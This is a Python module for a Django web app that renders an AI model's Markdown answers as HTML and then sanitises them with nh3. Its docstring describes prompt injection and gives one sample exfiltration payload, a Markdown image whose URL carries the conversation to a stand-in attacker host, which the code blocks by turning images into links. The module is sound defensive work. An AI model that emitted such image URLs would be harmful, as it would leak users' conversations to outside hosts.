"""Model output as HTML: Markdown rendered, then sanitised.

Model output is untrusted, and a model may follow instructions hidden in what
it reads (prompt injection). markdown-it-py runs with raw HTML off, and nh3
(ammonia) then keeps only a whitelist of tags and attributes, so no script,
event handler, style or htmx attribute survives.

Nothing in an answer makes the browser fetch anything by itself: an image such
as ``![p](https://evil.example/?d=SECRET)`` would carry the conversation off
the moment it is shown, so a Markdown image becomes a link to it instead (a
link is fetched only when clicked). Table alignment becomes a class, since the
Content-Security-Policy allows no style attributes.

An answer is rendered once, when its run ends, and stored with
``RENDERER_VERSION`` (bump it whenever the rendering or the sanitiser
changes). Rendering is bounded: an answer longer than ``MARKDOWN_LIMIT``
characters is shown as plain text.
"""

from collections.abc import Sequence

import nh3
from django.utils.html import escape
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

from workbench.limits import MARKDOWN_LIMIT

RENDERER_VERSION = 3
ALIGN_CLASSES = {"align-left", "align-center", "align-right"}  # see workbench.css


def _image_as_link(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """A link to the image, named by its alt text and followed by its URL (so
    the reader sees where it points without loading it); inside a link (a
    badge), the alt text alone, as links do not nest."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    text = escapeHtml(self.renderInlineAsText(token.children or [], options, env) or src)
    in_link = sum(t.nesting for t in tokens[:idx] if t.type in {"link_open", "link_close"})
    if in_link or not src:
        return text
    url = escapeHtml(src)
    return f'<a href="{url}">{text}</a>' + ("" if text == url else f" ({url})")


def _cell_with_align_class(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """A th/td whose style="text-align:…" from markdown-it becomes class="align-…"."""
    token = tokens[idx]
    if style := token.attrs.pop("style", None):
        token.attrSet("class", "align-" + str(style).removeprefix("text-align:"))
    return self.renderToken(tokens, idx, options, env)


_MD = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
_MD.add_render_rule("image", _image_as_link)
_MD.add_render_rule("th_open", _cell_with_align_class)
_MD.add_render_rule("td_open", _cell_with_align_class)
_TAGS = {
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}}


def render_markdown(text: str) -> SafeString:
    html = _MD.render(text)
    clean = nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        allowed_classes={"th": ALIGN_CLASSES, "td": ALIGN_CLASSES},
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
    )
    return mark_safe(clean)  # sanitised by nh3 just above


def is_plain(text: str) -> bool:
    """Too long to render as Markdown within a bounded time: shown as plain text."""
    return len(text) > MARKDOWN_LIMIT


def render_answer(text: str) -> SafeString:
    """An answer's HTML: Markdown, or plain text (line breaks kept) when it is too long."""
    if is_plain(text):
        return mark_safe(f'<p class="plain">{escape(text)}</p>')
    return render_markdown(text)
